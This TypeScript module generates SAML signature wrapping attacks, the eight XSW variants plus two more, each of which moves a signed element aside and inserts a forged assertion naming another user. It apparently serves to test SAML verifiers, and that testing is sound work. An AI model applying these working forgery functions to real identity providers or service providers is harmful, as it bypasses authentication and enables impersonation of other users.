import { newId } from './saml-messages.ts';

const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s;
const AFTER_ISSUER = /(<saml:Issuer>[^<]*<\/saml:Issuer>)/;

/** The parts of a response with one assertion. */
interface Parts {
  /** The whole response. */
  readonly response: string;
  /** The signed element. */
  readonly original: string;
  readonly signature: string;
  /** The signed element without its signature. */
  readonly bare: string;
  /** The unsigned element with a forged user and its own ID. */
  readonly evil: string;
}

/**
 * The eight signature wrapping attacks by their usual numbers (Somorovsky et al., "On breaking SAML", 2012; numbered as
 * in SAML Raider), and two more: the signature is valid for an element that the reader should ignore, and a forged
 * element takes its place. The first two attack a signed response, the others a signed assertion.
 * @param known text of the signed element
 * @param forged its replacement in the forged element
 */
export const WRAPPINGS: Readonly<Record<string, (xml: string, known: string, forged: string) => string>> = {
  XSW1: (xml, known, forged) => {
    const { signature, bare, evil } = partsOf(xml, 'samlp:Response', known, forged);
    return withSignature(
      evil,
      signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`),
    );
  },
  XSW2: (xml, known, forged) => {
    const { signature, bare, evil } = partsOf(xml, 'samlp:Response', known, forged);
    return withSignature(evil, `${bare}${signature}`);
  },
  XSW3: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${evil}${original}`);
  },
  XSW4: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => inside(evil, original));
  },
  XSW5: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${withSignature(evil, signature)}${bare}`);
  },
  XSW6: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    const wrapping = signature.replace('</ds:Signature>', () => `${bare}</ds:Signature>`);
    return response.replace(original, () => withSignature(evil, wrapping));
  },
  XSW7: (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`);
  },
  XSW8: (xml, known, forged) => {
    const { response, original, signature, bare, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    const object = `<ds:Object>${bare}</ds:Object></ds:Signature>`;
    const wrapping = signature.replace('</ds:Signature>', () => object);
    return response.replace(original, () => withSignature(evil, wrapping));
  },
  'original in the extensions, forged assertion in its place': (xml, known, forged) => {
    const { response, original, evil } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `<samlp:Extensions>${original}</samlp:Extensions>${evil}`);
  },
  'forged assertion with the same ID': (xml, known, forged) => {
    const { response, original, bare } = partsOf(xml, 'saml:Assertion', known, forged);
    return response.replace(original, () => `${original}${bare.replaceAll(known, forged)}`);
  },
};

function partsOf(xml: string, element: string, known: string, forged: string): Parts {
  const original = new RegExp(`<${element} .*</${element}>`, 's').exec(xml)?.[0];
  const signature = original === undefined ? undefined : SIGNATURE.exec(original)?.[0];
  if (original === undefined || signature === undefined) throw new Error(`no signed ${element} in ${xml}`);
  const bare = original.replace(signature, () => '');
  const evil = bare.replaceAll(known, forged).replace(/ ID="[^"]+"/, ` ID="${newId()}"`);
  if (evil === bare || evil.includes(known))
    throw new Error('the forged element does not differ from the original');
  return { response: xml, original, signature, bare, evil };
}

const withSignature = (element: string, signature: string) =>
  element.replace(AFTER_ISSUER, (issuer) => `${issuer}${signature}`);

const inside = (element: string, child: string) =>
  element.replace(/<\/saml:Assertion>$/, () => `${child}</saml:Assertion>`);
